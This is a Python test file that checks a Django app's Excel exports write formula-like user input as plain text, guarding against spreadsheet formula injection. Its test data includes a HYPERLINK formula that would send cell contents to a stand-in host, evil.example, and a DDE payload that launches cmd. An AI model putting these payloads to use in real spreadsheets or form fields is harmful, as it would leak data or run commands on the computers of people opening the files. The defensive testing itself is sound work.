"""Spreadsheet formula injection: text typed by anyone (the public suggestion box included)
that begins with = + - @, a tab or a carriage return is written to every export as text, never
as a formula, and shows exactly as typed."""

import io
from datetime import date

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from dangjian.core.export import as_text, neutralise_sheet, xlsx_table
from dangjian.org import excel
from dangjian.posts import services as post_services
from dangjian.public.models import Suggestion
from tests.factories import make_person

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def _cells(content: bytes):
    """Every non-empty cell of the first sheet as (value, data_type, quotePrefix)."""
    ws = load_workbook(io.BytesIO(content)).worksheets[0]
    return [
        (cell.value, cell.data_type, cell.quotePrefix)
        for row in ws.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def _streamed(response) -> bytes:
    return b"".join(response.streaming_content)


def _assert_text(cells, typed: str):
    found = [c for c in cells if c[0] == typed]
    assert found, f"{typed!r} not in the sheet"
    for _value, data_type, quote_prefix in found:
        assert data_type == "s"  # a string, not "f" (formula)
        assert quote_prefix  # stays text when edited in Excel/WPS


@pytest.mark.parametrize("typed", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\tx", "\r=1"])
def test_xlsx_table_writes_formula_like_text_as_text(typed):
    content = b"".join(xlsx_table(sheet="s", headers=["甲", "乙"], rows=[[typed, 5]]))
    cells = _cells(content)
    _assert_text(cells, typed)
    assert (5, "n", False) in cells  # numbers stay numbers


def test_ordinary_text_and_dates_are_untouched():
    content = b"".join(
        xlsx_table(sheet="s", headers=["甲"], rows=[["普通文字 = 不在开头", date(2026, 3, 1)]])
    )
    cells = _cells(content)
    assert ("普通文字 = 不在开头", "s", False) in cells
    assert any(c[1] == "d" or c[1] == "n" for c in cells if c[0] not in ("甲",))


def test_streamed_cells_read_back_as_written():
    """The streamed sheet's own fast paths (plain text, escaped text, dates either side of
    1900-03-01, error-code-like text) give what openpyxl reads back."""
    from datetime import datetime

    days = [date(1900, 1, 15), date(1900, 3, 1), date(2026, 12, 7)]
    texts = ["王", "A&B <c>", "#N/A", " 前后空格 ", ""]
    content = b"".join(xlsx_table(sheet="s", headers=["甲"], rows=[days + texts]))
    ws = load_workbook(io.BytesIO(content)).worksheets[0]
    values = [cell.value for cell in ws[2]]
    assert values[:3] == [datetime(d.year, d.month, d.day) for d in days]
    assert values[3:7] == texts[:4]
    assert values[7] in ("", None)


def test_neutralise_sheet_for_ordinary_workbooks():
    wb = Workbook()
    wb.active.append(["=2*3", "正常"])
    neutralise_sheet(wb.active)
    out = io.BytesIO()
    wb.save(out)
    _assert_text(_cells(out.getvalue()), "=2*3")
    assert as_text(wb.active["B1"]).data_type == "s"


def test_public_suggestion_with_hyperlink_is_text_in_the_export(world, as_user):
    response = as_user(None).post(
        "/public/o/BA/suggest/",
        {"name": "=1+1", "contact": "", "category": "teaching", "content": HYPERLINK},
        REMOTE_ADDR="10.9.9.9",
    )
    assert response.status_code == 302
    assert Suggestion.objects.get().content == HYPERLINK
    export = as_user(world.secretary_a).get(reverse("public:suggestion_export"))
    assert export.status_code == 200
    cells = _cells(_streamed(export))
    _assert_text(cells, HYPERLINK)
    _assert_text(cells, "=1+1")


def test_people_export_with_a_formula_name(world, as_user):
    make_person(world.branch_a, name="=1+1", note="@cmd|' /C calc'!A0")
    response = as_user(world.secretary_a).get(reverse("org:person_export"))
    assert response.status_code == 200
    cells = _cells(_streamed(response))
    _assert_text(cells, "=1+1")
    _assert_text(cells, "@cmd|' /C calc'!A0")


def test_people_import_template_org_names_are_text(world, as_user):
    world.branch_a.name = "=HYPERLINK(1)"
    world.branch_a.save()
    wb = load_workbook(io.BytesIO(excel.build_template(world.secretary_a)))
    cells = [c for row in wb[excel.ORG_SHEET].iter_rows() for c in row]
    names = [c for c in cells if c.value == "=HYPERLINK(1)"]
    assert names and all(c.data_type == "s" for c in names)


def test_duty_record_export(world, as_user):
    post_services.duty_record_create(
        actor=world.member_user,
        occurred_on=date(2026, 3, 2),
        place="-会议室",
        content='=HYPERLINK("http://x")',
        effect="+好",
    )
    response = as_user(world.secretary_a).get(reverse("posts:duty_record_export"))
    assert response.status_code == 200
    cells = _cells(_streamed(response))
    for typed in ("-会议室", '=HYPERLINK("http://x")', "+好"):
        _assert_text(cells, typed)
